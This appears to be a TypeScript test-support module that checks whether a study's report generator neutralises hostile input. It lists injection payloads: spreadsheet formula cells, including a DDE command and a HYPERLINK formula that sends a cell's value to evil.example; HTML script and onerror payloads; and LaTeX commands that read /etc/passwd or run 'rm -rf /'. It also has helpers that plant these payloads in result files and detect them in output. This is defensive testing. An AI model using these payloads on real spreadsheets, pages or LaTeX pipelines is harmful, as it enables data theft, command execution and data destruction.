/**
 * Hostile text for tests of output neutralisation: what a careless or malicious result file,
 * dataset or file name may carry into the report's tables, Markdown, LaTeX and HTML.
 * @module
 */

/** Cells a spreadsheet would evaluate as formulas (`=`, `+`, `-`, `@`, TAB, CR first). */
export const FORMULA_PAYLOADS: readonly string[] = [
  "=cmd|' calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Толығырақ")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

/** Text that is live in Markdown or HTML: raw HTML, a remote image, a link, a backtick. */
export const MARKUP_PAYLOADS: readonly string[] = [
  "<img src=x onerror=alert(1)>",
  "</table><script>alert(1)</script>",
  "![t](http://host/t.png)",
  "[click](http://host/phish)",
  "a`b",
  "line\n# heading",
];

/** Text that runs LaTeX commands. */
export const LATEX_PAYLOADS: readonly string[] = [
  "\\input{/etc/passwd}",
  "\\write18{rm -rf /}",
  "$x^2$ & 100% #1 ~_{}",
];

/** Every payload. */
export const INJECTION_PAYLOADS: readonly string[] = [
  ...FORMULA_PAYLOADS,
  ...MARKUP_PAYLOADS,
  ...LATEX_PAYLOADS,
];

/** Markdown with its code spans removed (inside them nothing is live); escaped backticks open none. */
export function withoutCodeSpans(text: string): string {
  return text.replace(/\\\\/g, "").replace(/\\`/g, "")
    .replace(/(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, "");
}

/**
 * Where Markdown `text` (a report, a section) lets a payload through, as messages (empty when it
 * is safe): outside code spans, a raw HTML tag (other than `<details>`/`<summary>`), an image or
 * link to a remote address, an autolink, or a backtick left open by untrusted text.
 */
export function markdownLeaks(text: string): string[] {
  const leaks: string[] = [];
  const live = withoutCodeSpans(text);
  for (const m of live.matchAll(/<\/?([A-Za-z][A-Za-z0-9]*)\b[^>]*>/g)) {
    if (!["details", "summary"].includes(m[1].toLowerCase())) leaks.push(`raw HTML ${m[0]}`);
  }
  for (const m of live.matchAll(/(?<!\\)\]\((https?:[^)]*)\)/g)) leaks.push(`remote link ${m[0]}`);
  for (const m of live.matchAll(/<https?:[^>]*>/g)) leaks.push(`autolink ${m[0]}`);
  for (const line of live.split("\n")) {
    if (line.includes("`")) {
      leaks.push(`unmatched backtick in ${JSON.stringify(line.slice(0, 120))}`);
    }
  }
  return leaks;
}

/** CSV cells (parsed) that a spreadsheet would evaluate as formulas. */
export function formulaCells(rows: readonly (readonly string[])[]): string[] {
  return rows.flat().filter((c) =>
    /^[=+\-@\t\r]/.test(c) && !/^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(c)
  );
}

/** The hostile result files {@linkcode writeHostileResults} writes, by name. */
export const HOSTILE_FILE_NAMES: readonly string[] = [
  "baseline_4b.json",
  "=cmd|' calc'!A0 `x`.json",
  "<img src=x onerror=alert(2)> ![t](http:\\\\host\\t.png).json",
];

/**
 * Writes a small result folder whose answers, questions, domain labels, model labels and file
 * names carry {@linkcode INJECTION_PAYLOADS}: the first `n` samples of three of the study's files
 * (`data/results` under `root`), as {@linkcode HOSTILE_FILE_NAMES}.
 */
export async function writeHostileResults(root: string, dir: string, n = 40): Promise<void> {
  await Deno.mkdir(dir, { recursive: true });
  const sources = [
    ["baseline_4b.json", null],
    ["benchmark_4b_ft.json", "<img src=x onerror=alert(1)>"],
    ["benchmark_8b_ft.json", "![t](http://host/t.png)"],
  ] as const;
  for (const [i, [src, label]] of sources.entries()) {
    const d = JSON.parse(await Deno.readTextFile(`${root}/data/results/${src}`));
    d.detailed_results = d.detailed_results.slice(0, n);
    d.num_samples = n;
    if (label) d.model = label;
    d.detailed_results.forEach((s: Record<string, unknown>, j: number) => {
      if (j >= INJECTION_PAYLOADS.length) return;
      s.prediction = `${INJECTION_PAYLOADS[j]} ${s.prediction}`;
      s.input = `${INJECTION_PAYLOADS[(j + 3) % INJECTION_PAYLOADS.length]} ${s.input}`;
      if (j % 3 === 0) s.domain = "=1+1";
    });
    await Deno.writeTextFile(`${dir}/${HOSTILE_FILE_NAMES[i]}`, JSON.stringify(d));
  }
}
